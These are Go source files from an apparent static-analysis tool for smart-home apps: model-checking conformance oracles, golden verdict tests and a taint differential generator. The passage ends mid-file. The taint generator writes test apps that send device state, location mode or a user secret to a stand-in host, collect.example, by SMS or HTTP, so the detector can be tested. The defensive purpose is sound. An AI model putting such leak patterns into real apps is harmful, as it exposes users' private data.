// TestGoldenCorpus locks the verdict of every paper property (S.1–S.5,
// P.1–P.30) across the paperapps corpus. Any engine, translation, or
// property-catalogue change that flips a verdict fails here; if the
// flip is intended, regenerate with
//
//	go test ./internal/conformance -run TestGoldenCorpus -update
func TestGoldenCorpus(t *testing.T) {
	got, err := GoldenReport()
	if err != nil {
		t.Fatalf("GoldenReport: %v", err)
	}
	path := filepath.Join("testdata", "paperapps.golden")
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("wrote %s (%d bytes)", path, len(got))
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("golden file missing (regenerate with -update): %v", err)
	}
	if got == string(want) {
		return
	}
	gotLines, wantLines := strings.Split(got, "\n"), strings.Split(string(want), "\n")
	for i := 0; i < len(gotLines) || i < len(wantLines); i++ {
		g, w := "", ""
		if i < len(gotLines) {
			g = gotLines[i]
		}
		if i < len(wantLines) {
			w = wantLines[i]
		}
		if g != w {
			t.Errorf("golden verdicts diverge at line %d:\n  got:  %q\n  want: %q", i+1, g, w)
		}
	}
}
