package conformance

import (
	"github.com/soteria-analysis/soteria/internal/ctl"
)

// maxShrinkAttempts caps the number of candidate rebuilds per
// mismatch so shrinking stays bounded even on large cases.
const maxShrinkAttempts = 4000

// ShrinkMismatch greedily minimizes a disagreeing case: it removes
// transitions and states from the model spec and simplifies the
// formula, keeping each reduction only while the oracle still
// disagrees (on any dimension). The result is a small reproducer to
// attach to a bug report.
func ShrinkMismatch(m *Mismatch, es EngineSet) *Mismatch {
	return shrinkWith(m, func(c *Case) *Mismatch { return CheckCase(c, es) })
}

// shrinkWith is ShrinkMismatch under a pluggable oracle — the seam
// the package tests use to exercise the reducer with synthetic
// disagreements a healthy engine never produces.
func shrinkWith(m *Mismatch, oracle func(*Case) *Mismatch) *Mismatch {
	cur := m
	attempts := 0
	// tryCase rebuilds and re-runs the oracle; it returns the new
	// mismatch when the reduction preserves the disagreement.
	tryCase := func(sp *ModelSpec, f ctl.Formula) *Mismatch {
		if attempts >= maxShrinkAttempts {
			return nil
		}
		attempts++
		model, k, err := sp.Build()
		if err != nil {
			return nil
		}
		c := &Case{Index: cur.Case.Index, Spec: sp, Model: model, K: k, F: f}
		return oracle(c)
	}

	for {
		next := shrinkOnce(cur, tryCase)
		if next == nil {
			return cur
		}
		cur = next
	}
}

// shrinkOnce applies the first successful single reduction, or nil
// when the case is minimal (under this reduction set).
func shrinkOnce(m *Mismatch, tryCase func(*ModelSpec, ctl.Formula) *Mismatch) *Mismatch {
	sp, f := m.Case.Spec, m.Case.F

	// Drop one transition.
	for i := range sp.Trans {
		cand := &ModelSpec{Vars: sp.Vars, States: sp.States}
		cand.Trans = append(append([]TransSpec{}, sp.Trans[:i]...), sp.Trans[i+1:]...)
		if next := tryCase(cand, f); next != nil {
			return next
		}
	}

	// Drop one state (with every transition touching it, remapping
	// the survivors' indices).
	if len(sp.States) > 1 {
		for i := range sp.States {
			cand := &ModelSpec{Vars: sp.Vars}
			cand.States = append(append([][]int{}, sp.States[:i]...), sp.States[i+1:]...)
			for _, t := range sp.Trans {
				if t.From == i || t.To == i {
					continue
				}
				nt := t
				if nt.From > i {
					nt.From--
				}
				if nt.To > i {
					nt.To--
				}
				cand.Trans = append(cand.Trans, nt)
			}
			if next := tryCase(cand, f); next != nil {
				return next
			}
		}
	}

	// Simplify the formula by one node.
	for _, cand := range simplifications(f) {
		if next := tryCase(sp, cand); next != nil {
			return next
		}
	}
	return nil
}

// simplifications returns every formula obtained from f by one local
// reduction: replacing some node with one of its children or a
// boolean constant.
func simplifications(f ctl.Formula) []ctl.Formula {
	var out []ctl.Formula
	add := func(c ctl.Formula) { out = append(out, c) }

	// Root replacements: constants, then children.
	switch f.(type) {
	case ctl.TrueF:
		// nothing below a constant
		return nil
	case ctl.FalseF:
		add(ctl.TrueF{})
		return out
	default:
		add(ctl.TrueF{})
		add(ctl.FalseF{})
	}

	// rebuilders lift a child's simplification back into f.
	unary := func(child ctl.Formula, wrap func(ctl.Formula) ctl.Formula) {
		add(child)
		for _, c := range simplifications(child) {
			add(wrap(c))
		}
	}
	binary := func(l, r ctl.Formula, wrap func(l, r ctl.Formula) ctl.Formula) {
		add(l)
		add(r)
		for _, c := range simplifications(l) {
			add(wrap(c, r))
		}
		for _, c := range simplifications(r) {
			add(wrap(l, c))
		}
	}

	switch x := f.(type) {
	case ctl.Not:
		unary(x.X, func(c ctl.Formula) ctl.Formula { return ctl.Not{X: c} })
	case ctl.And:
		binary(x.L, x.R, func(l, r ctl.Formula) ctl.Formula { return ctl.And{L: l, R: r} })
	case ctl.Or:
		binary(x.L, x.R, func(l, r ctl.Formula) ctl.Formula { return ctl.Or{L: l, R: r} })
	case ctl.Implies:
		binary(x.L, x.R, func(l, r ctl.Formula) ctl.Formula { return ctl.Implies{L: l, R: r} })
	case ctl.EX:
		unary(x.X, func(c ctl.Formula) ctl.Formula { return ctl.EX{X: c} })
	case ctl.AX:
		unary(x.X, func(c ctl.Formula) ctl.Formula { return ctl.AX{X: c} })
	case ctl.EF:
		unary(x.X, func(c ctl.Formula) ctl.Formula { return ctl.EF{X: c} })
	case ctl.AF:
		unary(x.X, func(c ctl.Formula) ctl.Formula { return ctl.AF{X: c} })
	case ctl.EG:
		unary(x.X, func(c ctl.Formula) ctl.Formula { return ctl.EG{X: c} })
	case ctl.AG:
		unary(x.X, func(c ctl.Formula) ctl.Formula { return ctl.AG{X: c} })
	case ctl.EU:
		binary(x.A, x.B, func(l, r ctl.Formula) ctl.Formula { return ctl.EU{A: l, B: r} })
	case ctl.AU:
		binary(x.A, x.B, func(l, r ctl.Formula) ctl.Formula { return ctl.AU{A: l, B: r} })
	}
	return out
}
