package conformance

import (
	"fmt"
	"strings"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/properties"
)

// GoldenEnvs returns the environments the golden corpus locks: every
// paper app individually, plus the Appendix A apps installed together
// (the multi-app union the paper analyzes in §4.3).
func GoldenEnvs() []struct {
	Name    string
	Sources []core.NamedSource
} {
	var envs []struct {
		Name    string
		Sources []core.NamedSource
	}
	var union []core.NamedSource
	for _, app := range paperapps.Corpus() {
		envs = append(envs, struct {
			Name    string
			Sources []core.NamedSource
		}{Name: app.Name, Sources: []core.NamedSource{{Name: app.Name, Source: app.Source}}})
		if app.Name != "Buggy-Smoke-Alarm" {
			union = append(union, core.NamedSource{Name: app.Name, Source: app.Source})
		}
	}
	envs = append(envs, struct {
		Name    string
		Sources []core.NamedSource
	}{Name: "Appendix-A-Union", Sources: union})
	return envs
}

// GoldenReport analyzes the golden environments and renders one
// verdict line per paper property (S.1–S.5 and P.1–P.30) per
// environment: "violated", "held", "clean" (general checks find
// nothing), or "n/a" (no applicable variant). The output is
// deterministic and versioned under testdata — any engine or pipeline
// change that flips a verdict fails the golden test.
func GoldenReport() (string, error) {
	var sb strings.Builder
	sb.WriteString("# Golden verdicts: paper properties over the paperapps corpus.\n")
	sb.WriteString("# S.1-S.5 are the general checks (violated/clean); P.1-P.30 the\n")
	sb.WriteString("# app-specific catalogue (violated/held/n-a). Regenerate with\n")
	sb.WriteString("#   go test ./internal/conformance -run TestGoldenCorpus -update\n")
	for _, env := range GoldenEnvs() {
		a, err := core.AnalyzeSources(core.DefaultOptions(), env.Sources...)
		if err != nil {
			return "", fmt.Errorf("golden: analyzing %s: %w", env.Name, err)
		}
		if a.Incomplete {
			return "", fmt.Errorf("golden: analysis of %s is incomplete", env.Name)
		}
		fmt.Fprintf(&sb, "\n[%s]\n", env.Name)
		violated := map[string]bool{}
		for _, id := range a.ViolatedIDs() {
			violated[id] = true
		}
		checked := map[string]bool{}
		for _, id := range a.Checked {
			checked[id] = true
		}
		for i := 1; i <= 5; i++ {
			id := fmt.Sprintf("S.%d", i)
			v := "clean"
			if violated[id] {
				v = "violated"
			}
			fmt.Fprintf(&sb, "%s = %s\n", id, v)
		}
		for _, p := range properties.Catalogue() {
			v := "n/a"
			switch {
			case violated[p.ID]:
				v = "violated"
			case checked[p.ID]:
				v = "held"
			}
			fmt.Fprintf(&sb, "%s = %s\n", p.ID, v)
		}
	}
	return sb.String(), nil
}
