package conformance

import (
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestTaintGenDeterministic requires equal seeds to generate equal
// pair sequences — the property CI replays rely on.
func TestTaintGenDeterministic(t *testing.T) {
	a := rand.New(rand.NewSource(7))
	b := rand.New(rand.NewSource(7))
	for i := 0; i < 48; i++ {
		ca, cb := GenTaintCase(a, i), GenTaintCase(b, i)
		if ca.Name != cb.Name || ca.Tainted != cb.Tainted || ca.Sanitized != cb.Sanitized {
			t.Fatalf("case %d diverges across equal seeds:\n%s\n---\n%s", i, ca.Name, cb.Name)
		}
		if ca.Tainted == ca.Sanitized {
			t.Fatalf("case %d: variants are identical", i)
		}
		// The variants differ exactly by the sanitizer call: stripping
		// "<sanitizer>(" and the matching ")" from the sanitized source
		// must recover the tainted source.
		stripped := strings.Replace(ca.Sanitized, ca.Sanitizer+"(", "", -1)
		stripped = strings.Replace(stripped, ")}", "}", -1)
		if stripped != ca.Tainted {
			t.Fatalf("case %d: variants differ beyond the sanitizer:\n%s\n---\n%s",
				i, ca.Tainted, ca.Sanitized)
		}
	}
}

// TestTaintGenCoversFamily checks any 24-case window hits all six
// properties under all four shapes.
func TestTaintGenCoversFamily(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	props := map[string]int{}
	shapes := map[string]bool{}
	for i := 0; i < 24; i++ {
		c := GenTaintCase(rng, i)
		props[c.PropID]++
		shapes[strings.Fields(c.Name)[3]] = true
	}
	for _, id := range []string{"T.1", "T.2", "T.3", "T.4", "T.5", "T.6"} {
		if props[id] != 4 {
			t.Errorf("%s generated %d times in 24 cases, want 4", id, props[id])
		}
	}
	if len(shapes) != 4 {
		t.Errorf("shapes covered = %v, want 4", shapes)
	}
}

// TestTaintDifferential is the in-tree slice of the taint soak: 48
// seeded pairs (two full family×shape sweeps) through the oracle.
// CI runs longer sweeps via soteria-conform -taint.
func TestTaintDifferential(t *testing.T) {
	rep := RunTaint(TaintOptions{Seed: 0xDEC0DE, Count: 48})
	if rep.Cases != 48 {
		t.Fatalf("cases = %d", rep.Cases)
	}
	for _, m := range rep.Mismatches {
		t.Errorf("%v", m)
	}
}

// TestGoldenTaintCorpus locks the verdicts of the golden taint pairs
// (50 verdict lines: 25 pairs × 2 variants). Regenerate intended
// changes with
//
//	go test ./internal/conformance -run TestGoldenTaint -update
func TestGoldenTaintCorpus(t *testing.T) {
	got, err := TaintGoldenReport()
	if err != nil {
		t.Fatalf("TaintGoldenReport: %v", err)
	}
	path := filepath.Join("testdata", "taint.golden")
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("wrote %s (%d bytes)", path, len(got))
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("golden file missing (regenerate with -update): %v", err)
	}
	if got == string(want) {
		return
	}
	gotLines, wantLines := strings.Split(got, "\n"), strings.Split(string(want), "\n")
	for i := 0; i < len(gotLines) || i < len(wantLines); i++ {
		g, w := "", ""
		if i < len(gotLines) {
			g = gotLines[i]
		}
		if i < len(wantLines) {
			w = wantLines[i]
		}
		if g != w {
			t.Errorf("taint golden verdicts diverge at line %d:\n  got:  %q\n  want: %q", i+1, g, w)
		}
	}
}
