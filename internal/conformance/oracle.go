package conformance

import (
	"fmt"
	"strings"

	"github.com/soteria-analysis/soteria/internal/bmc"
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/modelcheck"
	"github.com/soteria-analysis/soteria/internal/smv"
	"github.com/soteria-analysis/soteria/internal/symbolic"
)

// Mismatch is one oracle disagreement: a (model, formula) pair on
// which the deciders — or a round-trip — diverge.
type Mismatch struct {
	Case *Case
	// Kind classifies the disagreement: "verdict", "satset",
	// "ctl-roundtrip", "smv-roundtrip", or "replay".
	Kind string
	// Engines names the two sides ("explicit/bdd", ...).
	Engines string
	// Detail is a human-readable account.
	Detail string
}

// Error formats the mismatch with its reproducer.
func (m *Mismatch) Error() string {
	return fmt.Sprintf("conformance: %s mismatch (%s): %s\nformula: %s\nreproducer:\n%s",
		m.Kind, m.Engines, m.Detail, m.Case.F.String(), m.Case.Spec.String())
}

// CheckCase runs one (model, formula) pair through the selected
// engines, the CTL and SMV round-trips, and the replay validators.
// It returns the first disagreement, or nil on full agreement.
func CheckCase(c *Case, es EngineSet) *Mismatch {
	mismatch := func(kind, engines, format string, args ...any) *Mismatch {
		return &Mismatch{Case: c, Kind: kind, Engines: engines, Detail: fmt.Sprintf(format, args...)}
	}

	// Reference engine: explicit-state fixpoint.
	ref := modelcheck.Check(c.K, c.F)
	c.engineRuns++

	// Its counterexample must replay.
	if !ref.Holds {
		c.replayed++
		if err := ValidateCounterexample(c.K, c.F, ref); err != nil {
			return mismatch("replay", "explicit", "%v", err)
		}
	}

	// Witnesses for existential shapes must replay from every
	// satisfying initial state.
	switch c.F.(type) {
	case ctl.EX, ctl.EF, ctl.EU, ctl.EG:
		for _, s := range c.K.Init {
			path, loop, ok := modelcheck.Witness(c.K, c.F, s)
			if ok != ref.Sat[s] {
				return mismatch("replay", "explicit", "Witness ok=%v but Sat[%d]=%v", ok, s, ref.Sat[s])
			}
			if !ok {
				continue
			}
			c.replayed++
			if err := ValidateWitness(c.K, c.F, s, path, loop); err != nil {
				return mismatch("replay", "explicit", "%v", err)
			}
		}
	}

	// BDD-symbolic engine: verdict and full satisfaction set.
	if es.BDD {
		sym := symbolic.New(c.K).Check(c.F)
		c.engineRuns++
		if sym.Holds != ref.Holds {
			return mismatch("verdict", "explicit/bdd", "explicit=%v bdd=%v", ref.Holds, sym.Holds)
		}
		for s := 0; s < c.K.N; s++ {
			if sym.Sat[s] != ref.Sat[s] {
				return mismatch("satset", "explicit/bdd",
					"state %d: explicit=%v bdd=%v", s, ref.Sat[s], sym.Sat[s])
			}
		}
	}

	// SAT-based BMC: complete for AG over propositional bodies when
	// unrolled to the state count.
	if es.BMC {
		if r, handled := bmc.CheckAG(c.K, c.F, c.K.N); handled {
			c.engineRuns++
			if r.Violated == ref.Holds {
				return mismatch("verdict", "explicit/bmc",
					"explicit=%v bmc.Violated=%v at depth %d", ref.Holds, r.Violated, r.Depth)
			}
			if r.Violated {
				c.replayed++
				if err := ValidateBMCTrace(c.K, c.F.(ctl.AG).X, r); err != nil {
					return mismatch("replay", "bmc", "%v", err)
				}
			}
		}
	}

	// CTL round-trip: the rendering of any formula must re-parse to
	// the same formula.
	if reparsed, err := ctl.Parse(c.F.String()); err != nil {
		return mismatch("ctl-roundtrip", "ctl", "rendering does not re-parse: %v", err)
	} else if reparsed.String() != c.F.String() {
		return mismatch("ctl-roundtrip", "ctl", "re-parse changed the formula: %q vs %q",
			c.F.String(), reparsed.String())
	}

	// SMV round-trip: the emitted module must re-parse and re-emit
	// byte-identically, with the model's shape preserved.
	if m := checkSMVRoundTrip(c); m != nil {
		return m
	}
	return nil
}

// checkSMVRoundTrip emits the case's model (with the formula as its
// SPEC), re-parses the module, and cross-checks structure: emission
// idempotence, variable domains, transition count, and spec count.
func checkSMVRoundTrip(c *Case) *Mismatch {
	mismatch := func(format string, args ...any) *Mismatch {
		return &Mismatch{Case: c, Kind: "smv-roundtrip", Engines: "smv", Detail: fmt.Sprintf(format, args...)}
	}
	out := smv.Emit(c.Model, []ctl.Formula{c.F})
	mod, err := smv.Parse(out)
	if err != nil {
		return mismatch("emitted module does not re-parse: %v", err)
	}
	if re := mod.Emit(); re != out {
		return mismatch("re-emission is not byte-identical (%d vs %d bytes)", len(re), len(out))
	}
	// One declaration per model variable plus the _event marker.
	if len(mod.Vars) != len(c.Model.Vars)+1 {
		return mismatch("parsed module has %d variables, model has %d (+_event)",
			len(mod.Vars), len(c.Model.Vars))
	}
	for _, v := range c.Model.Vars {
		decl, ok := mod.VarByName(smvSymbol(v.Key))
		if !ok {
			return mismatch("model variable %s missing from module", v.Key)
		}
		if len(decl.Values) != len(v.Values) {
			return mismatch("variable %s: module domain has %d values, model %d",
				v.Key, len(decl.Values), len(v.Values))
		}
	}
	if _, ok := mod.VarByName("_event"); !ok {
		return mismatch("module lacks the _event marker variable")
	}
	// One TRANS disjunct per model transition (or the stutter
	// disjunct for an inert model).
	want := len(c.Model.Transitions)
	if want == 0 {
		want = 1
	}
	if len(mod.Trans) != want {
		return mismatch("module has %d TRANS disjuncts, model has %d transitions",
			len(mod.Trans), len(c.Model.Transitions))
	}
	if len(mod.Specs) != 1 {
		return mismatch("module has %d SPEC lines, want 1", len(mod.Specs))
	}
	return nil
}

// smvSymbol mirrors the emitter's identifier sanitisation for the
// generator's variable keys (alphanumerics, '.', '_' only).
func smvSymbol(s string) string {
	return strings.Map(func(r rune) rune {
		if r == '.' {
			return '_'
		}
		return r
	}, s)
}
