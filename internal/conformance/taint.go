package conformance

import (
	"fmt"
	"math/rand"
	"strings"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/taint"
)

// The taint differential mode cross-validates the T.1–T.6 family the
// same way the engine oracle cross-validates verdicts: a seeded
// generator emits paired app variants — identical except that the
// sanitized twin wraps the sensitive expression in a declassification
// call — and the oracle requires the taint verdict to flip exactly
// with the sanitizer: the tainted variant must be flagged with
// precisely the expected property (and nothing else), the sanitized
// variant must be silent. Any other outcome (missed leak, wrong
// property, sanitizer ignored) is a mismatch carrying both sources as
// a reproducer.

// TaintCase is one generated tainted/sanitized app pair.
type TaintCase struct {
	Index int
	// Name describes the pair deterministically:
	// "pair-03 location-mode->network httpGet conditional".
	Name string
	// PropID is the property the tainted variant must violate
	// ("T.1".."T.6").
	PropID string
	// Sanitizer is the declassification call the sanitized variant
	// wraps the sensitive expression in.
	Sanitizer string
	// Tainted and Sanitized are complete Groovy sources, identical
	// modulo the sanitizer call.
	Tainted   string
	Sanitized string
}

// taintGenCaps are the device capabilities the generator subscribes
// to; Val is the attribute value used for conditional shapes.
var taintGenCaps = []struct {
	Handle, Cap, Attr, Val string
}{
	{"kids", "presenceSensor", "presence", "not present"},
	{"door", "contactSensor", "contact", "open"},
	{"leak", "waterSensor", "water", "wet"},
}

var taintGenSanitizers = []string{"redact", "anonymize", "obfuscate"}

// taintGenSinks lists the sink call shapes per channel. The %s slot
// receives the payload interpolation (`${expr}`).
var taintGenSinks = map[taint.Channel][]struct {
	Name string
	// Stmt renders the direct sink statement; Helper renders the
	// helper-method body for the handler-boundary shape, taking the
	// tainted string through a parameter named m.
	Stmt, Helper string
}{
	taint.Messaging: {
		{"sendSms", `sendSms("555-0199", "d: %s")`, `sendSms("555-0199", m)`},
		{"sendPush", `sendPush("d: %s")`, `sendPush(m)`},
		{"sendNotification", `sendNotification("d: %s")`, `sendNotification(m)`},
	},
	taint.Network: {
		{"httpGet", `httpGet("http://collect.example/?d=%s")`, `httpGet(m)`},
		{"httpPost", `httpPost("http://collect.example", "d=%s")`, `httpPost("http://collect.example", m)`},
		{"httpPostJson", `httpPostJson("http://collect.example", "d=%s")`, `httpPostJson("http://collect.example", m)`},
	},
}

var taintGenShapes = []string{"direct", "conditional", "helper", "state-hop"}

// GenTaintCase generates the index-th taint pair. The (class, channel,
// shape) triple cycles with the index so any window of 24+ cases
// covers the whole T family under every shape; the rng picks the
// remaining degrees of freedom (capability, event field, sink call,
// sanitizer). Equal (rng state, index) generate equal pairs.
func GenTaintCase(rng *rand.Rand, index int) *TaintCase {
	classes := []taint.Class{taint.DeviceState, taint.LocationMode, taint.UserInput}
	channels := []taint.Channel{taint.Messaging, taint.Network}
	class := classes[index%len(classes)]
	channel := channels[(index/len(classes))%len(channels)]
	shape := taintGenShapes[(index/(len(classes)*len(channels)))%len(taintGenShapes)]

	cap := taintGenCaps[rng.Intn(len(taintGenCaps))]
	sink := taintGenSinks[channel][rng.Intn(len(taintGenSinks[channel]))]
	san := taintGenSanitizers[rng.Intn(len(taintGenSanitizers))]

	var expr string
	switch class {
	case taint.DeviceState:
		expr = []string{"evt.displayName", "evt.value"}[rng.Intn(2)]
	case taint.LocationMode:
		expr = "location.mode"
	case taint.UserInput:
		expr = "secret"
	}

	propID := ""
	for _, s := range taint.Catalogue() {
		if s.Source == class && s.Channel == channel {
			propID = s.ID
		}
	}

	c := &TaintCase{
		Index:     index,
		Name:      fmt.Sprintf("pair-%02d %s->%s %s %s", index, class, channel, sink.Name, shape),
		PropID:    propID,
		Sanitizer: san,
	}
	c.Tainted = taintGenSource(cap, sink, shape, "${"+expr+"}")
	c.Sanitized = taintGenSource(cap, sink, shape, "${"+san+"("+expr+")}")
	return c
}

// taintGenSource renders one complete app variant.
func taintGenSource(cap struct{ Handle, Cap, Attr, Val string }, sink struct{ Name, Stmt, Helper string }, shape, payload string) string {
	sinkStmt := fmt.Sprintf(sink.Stmt, payload)
	body := "    " + sinkStmt
	extra := ""
	switch shape {
	case "conditional":
		body = fmt.Sprintf("    if (evt.value == %q) {\n        %s\n    }", cap.Val, sinkStmt)
	case "helper":
		// The tainted string crosses a method boundary: the handler
		// builds it, the helper transmits it.
		arg := `"d: ` + payload + `"`
		if sink.Name == "httpGet" {
			arg = `"http://collect.example/?d=` + payload + `"`
		}
		body = "    relay(" + arg + ")"
		extra = "\ndef relay(m) {\n    " + sink.Helper + "\n}\n"
	case "state-hop":
		// The sensitive value parks in a persistent state field before
		// the same handler transmits it: the sink statement reads the
		// cached string instead of the live expression.
		body = "    state.cache = \"d: " + payload + "\"\n    " +
			strings.Replace(sinkStmt, payload, "${state.cache}", 1)
	}
	return fmt.Sprintf(`
definition(name: "taint-gen", namespace: "conf", author: "conf")
preferences {
    section("Devices") {
        input "%s", "capability.%s"
        input "secret", "text", title: "Secret note"
    }
}
def installed() { subscribe(%s, "%s", h) }
def h(evt) {
%s
}
%s`, cap.Handle, cap.Cap, cap.Handle, cap.Attr, body, extra)
}

// TaintMismatch is one pair whose verdicts did not flip as required.
type TaintMismatch struct {
	Case *TaintCase
	// Problem describes the failed assertion.
	Problem string
}

func (m *TaintMismatch) Error() string {
	return fmt.Sprintf("%s: %s\n--- tainted variant ---%s--- sanitized variant ---%s",
		m.Case.Name, m.Problem, m.Case.Tainted, m.Case.Sanitized)
}

// taintVerdict analyzes one variant through the real pipeline (core
// with the taint family only) and returns the sorted violated taint
// IDs plus the flow count.
func taintVerdict(name, source string) ([]string, int, error) {
	a, err := core.AnalyzeSources(core.Options{Taint: true},
		core.NamedSource{Name: name, Source: source})
	if err != nil {
		return nil, 0, err
	}
	if a.Incomplete {
		return nil, 0, fmt.Errorf("analysis incomplete")
	}
	ids := map[string]bool{}
	for _, f := range a.TaintFlows {
		ids[f.ID] = true
	}
	var out []string
	for _, id := range taint.IDs() {
		if ids[id] {
			out = append(out, id)
		}
	}
	return out, len(a.TaintFlows), nil
}

// CheckTaintCase runs both variants and asserts the differential
// contract: the tainted variant is flagged with exactly the expected
// property, the sanitized variant is silent. Returns nil on agreement.
func CheckTaintCase(c *TaintCase) *TaintMismatch {
	tids, tflows, err := taintVerdict("tainted", c.Tainted)
	if err != nil {
		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("tainted variant: %v", err)}
	}
	if tflows == 0 {
		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("tainted variant: leak missed (want %s)", c.PropID)}
	}
	if len(tids) != 1 || tids[0] != c.PropID {
		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("tainted variant flagged %v, want exactly [%s]", tids, c.PropID)}
	}
	sids, sflows, err := taintVerdict("sanitized", c.Sanitized)
	if err != nil {
		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("sanitized variant: %v", err)}
	}
	if sflows != 0 {
		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("sanitized variant flagged %v: %s did not clear the mark", sids, c.Sanitizer)}
	}
	return nil
}

// TaintOptions configure a taint differential run.
type TaintOptions struct {
	Seed  int64
	Count int
	// MaxMismatches stops the run early (0 = collect all).
	MaxMismatches int
}

// TaintReport is the outcome of a taint differential run.
type TaintReport struct {
	Cases      int
	Mismatches []*TaintMismatch
}

// OK reports a clean run.
func (r *TaintReport) OK() bool { return len(r.Mismatches) == 0 }

// RunTaint generates opts.Count seeded pairs and checks each. It is
// deterministic for a given (Seed, Count).
func RunTaint(opts TaintOptions) *TaintReport {
	rng := rand.New(rand.NewSource(opts.Seed))
	rep := &TaintReport{}
	for i := 0; i < opts.Count; i++ {
		c := GenTaintCase(rng, i)
		rep.Cases++
		if m := CheckTaintCase(c); m != nil {
			rep.Mismatches = append(rep.Mismatches, m)
			if opts.MaxMismatches > 0 && len(rep.Mismatches) >= opts.MaxMismatches {
				break
			}
		}
	}
	return rep
}

// taintGoldenPairs is the pair count the golden file locks: 25 pairs,
// 50 verdict lines — every (class, channel, shape) combination plus
// one wrap-around.
const taintGoldenPairs = 25

// TaintGoldenReport renders the golden taint verdicts: the first
// taintGoldenPairs seed-1 pairs with the analyzed verdict of each
// variant ("T.n" or "clean"). The output is deterministic and
// versioned under testdata — a propagation or policy change that flips
// a verdict fails the golden test.
func TaintGoldenReport() (string, error) {
	var sb strings.Builder
	sb.WriteString("# Golden taint verdicts: seeded tainted/sanitized app pairs.\n")
	sb.WriteString("# Each pair differs only by a sanitizer call; the verdict must\n")
	sb.WriteString("# flip with it. Regenerate with\n")
	sb.WriteString("#   go test ./internal/conformance -run TestGoldenTaint -update\n")
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < taintGoldenPairs; i++ {
		c := GenTaintCase(rng, i)
		fmt.Fprintf(&sb, "\n[%s]\n", c.Name)
		for _, v := range []struct{ label, src string }{
			{"tainted", c.Tainted}, {"sanitized", c.Sanitized},
		} {
			ids, _, err := taintVerdict(v.label, v.src)
			if err != nil {
				return "", fmt.Errorf("taint golden: %s %s: %w", c.Name, v.label, err)
			}
			verdict := "clean"
			if len(ids) > 0 {
				verdict = strings.Join(ids, ",")
			}
			fmt.Fprintf(&sb, "%s = %s\n", v.label, verdict)
		}
	}
	return sb.String(), nil
}
