package conformance

import (
	"math/rand"
	"testing"

	"github.com/soteria-analysis/soteria/internal/bdd"
	"github.com/soteria-analysis/soteria/internal/symbolic"
)

// TestSoakNewKernelDifferential is the differential soak for the
// open-addressed BDD kernel rewrite: 200 seeded generated models run
// through the conformance oracle with the BDD engine enabled (explicit
// fixpoint vs the symbolic engine over the new kernel), and the same
// symbolic workload repeated over the retained legacy map-based kernel
// — three independent deciders per case, all required to agree on the
// verdict and the full satisfaction set.
func TestSoakNewKernelDifferential(t *testing.T) {
	const cases = 200
	rng := rand.New(rand.NewSource(0xB00))
	cfg := DefaultGenConfig()
	for i := 0; i < cases; i++ {
		c := GenCase(rng, cfg, i)

		// Explicit vs new-kernel symbolic (plus replay/round-trips).
		if m := CheckCase(c, EngineSet{BDD: true}); m != nil {
			t.Fatalf("case %d: %v", i, m)
		}

		// Same workload over the legacy kernel. CheckCase has already
		// pinned the new kernel to the explicit reference, so agreeing
		// with either closes the triangle.
		ref := symbolic.New(c.K).Check(c.F)
		leg := symbolic.NewWithKernel(c.K, nil, func(n int) bdd.Kernel {
			return bdd.NewLegacy(n)
		}).Check(c.F)
		if leg.Holds != ref.Holds {
			t.Fatalf("case %d: legacy kernel verdict %v, new kernel %v\nformula: %s\nreproducer:\n%s",
				i, leg.Holds, ref.Holds, c.F.String(), c.Spec.String())
		}
		for s := 0; s < c.K.N; s++ {
			if leg.Sat[s] != ref.Sat[s] {
				t.Fatalf("case %d: state %d: legacy Sat=%v, new Sat=%v\nformula: %s\nreproducer:\n%s",
					i, s, leg.Sat[s], ref.Sat[s], c.F.String(), c.Spec.String())
			}
		}
	}
}
