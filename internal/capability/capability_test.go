package capability

import (
	"testing"
	"testing/quick"
)

func TestLookupKnownCapabilities(t *testing.T) {
	for _, name := range []string{
		"switch", "alarm", "valve", "lock", "smokeDetector",
		"waterSensor", "motionSensor", "contactSensor",
		"presenceSensor", "battery", "powerMeter", "thermostat",
		"musicPlayer", "garageDoorControl", "location", "app", "timer",
	} {
		if _, ok := Lookup(name); !ok {
			t.Errorf("Lookup(%q) failed", name)
		}
	}
}

func TestLookupUnknown(t *testing.T) {
	if _, ok := Lookup("quantumFluxCapacitor"); ok {
		t.Error("unexpected capability")
	}
}

func TestForInputType(t *testing.T) {
	c, ok := ForInputType("capability.waterSensor")
	if !ok || c.Name != "waterSensor" {
		t.Fatalf("got %v, %v", c, ok)
	}
	if _, ok := ForInputType("number"); ok {
		t.Error("number should not resolve to a capability")
	}
	if _, ok := ForInputType("capability.nonexistent"); ok {
		t.Error("unknown capability should not resolve")
	}
}

func TestInputAliases(t *testing.T) {
	c, ok := Lookup("doorControl")
	if !ok || c.Name != "garageDoorControl" {
		t.Errorf("doorControl alias: got %v, %v", c, ok)
	}
}

func TestIsUserInputType(t *testing.T) {
	for _, typ := range []string{"number", "text", "phone", "contact", "enum", "time", "bool", "mode"} {
		if !IsUserInputType(typ) {
			t.Errorf("IsUserInputType(%q) = false", typ)
		}
	}
	if IsUserInputType("capability.switch") {
		t.Error("capability.switch is not a user input type")
	}
}

func TestCommandEffects(t *testing.T) {
	sw, _ := Lookup("switch")
	on, ok := sw.Command("on")
	if !ok {
		t.Fatal("switch.on missing")
	}
	if len(on.Effects) != 1 || on.Effects[0] != (Effect{Attr: "switch", Value: "on"}) {
